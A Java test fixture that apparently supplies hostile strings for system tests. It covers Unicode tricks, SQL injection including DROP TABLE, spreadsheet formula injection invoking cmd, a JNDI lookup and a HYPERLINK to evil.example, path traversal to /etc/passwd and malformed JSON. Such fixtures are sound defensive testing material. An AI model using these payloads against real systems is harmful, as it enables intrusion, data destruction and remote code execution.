package org.compact.systemtests.hostile;

import java.util.List;

/** The strings attackers and unlucky users send. */
final class HostileValues {
  private HostileValues() {}

  static final String HUGE = "A".repeat(100_000);

  record Named(String name, String value) {}

  static final List<Named> UNICODE =
      List.of(
          new Named("RTL override", "\u202Etxt.exe\u202C Trust"),
          new Named("zero-width", "Tru\u200Bst\u200D\uFEFF"),
          new Named(
              "emoji",
              "Trust \uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67"),
          new Named("NUL", "Tru\u0000st"),
          new Named("combining", "Z\u0337\u031B\u033Aa\u0336l\u0337g\u0335o\u0337"),
          new Named("lone surrogate", "Tr\uD800ust"),
          new Named("arabic and hebrew", "\u0645\u0631\u062D\u0628\u0627 \u05E9\u05DC\u05D5\u05DD"),
          new Named("control chars", "Trust\u0007\u001B[31m\r\n"));

  static final List<Named> INJECTION =
      List.of(
          new Named("SQL quote", "' OR '1'='1"),
          new Named("SQL drop", "'; DROP TABLE organisation; --"),
          new Named("SQL sleep", "1); SELECT pg_sleep(5); --"),
          new Named("SQL comment", "admin'--"),
          new Named("formula =", "=HYPERLINK(\"https://evil.example/\",\"click\")"),
          new Named("formula +", "+1+cmd|' /C calc'!A0"),
          new Named("formula -", "-2+3+cmd|' /C calc'!A0"),
          new Named("formula @", "@SUM(1+1)*cmd|' /C calc'!A0"),
          new Named("HTML", "<script>alert(1)</script>"),
          new Named("template", "${jndi:ldap://evil.example/a}{{7*7}}"),
          new Named("path traversal", "../../../../etc/passwd"),
          new Named("percent", "%00%2e%2e%2f%s%n"));

  /** Raw (already percent-encoded) path segments that must never name a resource. */
  static final List<Named> BAD_PATH_SEGMENTS =
      List.of(
          new Named("traversal ../", "..%2F..%2F..%2Fetc%2Fpasswd"),
          new Named("traversal %2e%2e%2f", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
          new Named("traversal double-encoded", "..%252f..%252fetc%252fpasswd"),
          new Named("traversal raw ../", "../../etc/passwd"),
          new Named("traversal ..;/", "..;/..;/etc/passwd"),
          new Named("SQL quote", "%27%20OR%20%271%27%3D%271"),
          new Named("SQL union", "1%20UNION%20SELECT%20null--"),
          new Named("not an id", "not-an-id"),
          new Named("huge", "a".repeat(4000)),
          new Named("unicode RTL", "%E2%80%AEdi"),
          new Named("NUL", "abc%00def"),
          new Named("negative", "-1"),
          new Named("overflow", "99999999999999999999"),
          new Named("nil uuid", "00000000-0000-0000-0000-000000000000"));

  static final List<Named> MALFORMED_JSON =
      List.of(
          new Named("unclosed object", "{"),
          new Named("missing value", "{\"a\":}"),
          new Named("trailing comma", "{\"a\":1,}"),
          new Named("single quotes", "{'a':'b'}"),
          new Named("two documents", "{\"a\":1}{\"b\":2}"),
          new Named("array instead of object", "[]"),
          new Named("null document", "null"),
          new Named("string document", "\"text\""),
          new Named("number document", "42"),
          new Named("NaN", "{\"a\":NaN}"),
          new Named("comment", "/* x */{}"),
          new Named("deep nesting", "[".repeat(100_000) + "]".repeat(100_000)));
}
